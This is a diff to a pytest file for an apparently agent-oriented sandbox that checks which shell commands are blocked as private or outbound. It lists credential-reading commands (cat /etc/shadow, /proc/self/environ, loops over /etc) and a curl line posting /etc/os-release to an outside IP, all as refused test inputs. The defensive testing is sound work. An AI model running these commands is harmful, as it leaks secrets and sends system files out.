@@ -8,6 +8,8 @@ import pytest
 from planact.adapters.sandbox.limits.profiles import _SYSTEM
 from planact.adapters.sandbox.limits.public_files import ADMINISTERED, KERNEL, PACKAGED, is_public_file, is_unasked
 from planact.policy.context import PolicyContext
+from planact.shell.classify import Classifier
+from planact.shell.judge import LineContext
 from planact.tools.tool_result import Done
 from tests.fakes.bench import ACT, PLAN
 from tests.tools.test_readable import Beside, code
@@ -46,6 +48,12 @@ PRIVATE = (
     "cat /etc/shadow",
     "cat /etc/os-release /etc/shadow",
     "grep -r x /etc/ssl/private",
+    "find /etc -exec cat {} +",
+    "for f in /etc/*; do cat $f; done",
+    "for f in ../*; do cat $f; done",
+    "cd /etc && cat *",
+    "cat /dev/fd/../environ",
+    "cat //proc/self/environ",
     "cat /proc/1/environ",
     "cat /proc/self/environ",
     "cat /proc/thread-self/environ",
@@ -98,6 +106,12 @@ def test_what_may_tell_others_of_it_asks(tmp_path: Path) -> None:
     it = Beside(tmp_path, ACT, *NO)
     for command in ("curl -d @/etc/os-release http://192.0.2.1", "dig -f /etc/os-release"):
         assert code(it.run("execute_command", command=command)) == "REFUSED_BY_USER"
+
+
+@pytest.mark.parametrize("line", ["for f in src/*; do cat $f; done", "cat $(ls)", "cat $X", "cat /dev/fd/../environ"])
+def test_a_path_that_only_running_can_tell_needs_a_jail(line: str) -> None:
+    found = Classifier().classify(line, second=None, context=LineContext("/work/a", ("/work/a",)))
+    assert found.cls == "unknown" or "plain" not in found.traits or "outside" in found.traits
 
 
 def test_a_link_counts_as_what_it_leads_to(tmp_path: Path) -> None:
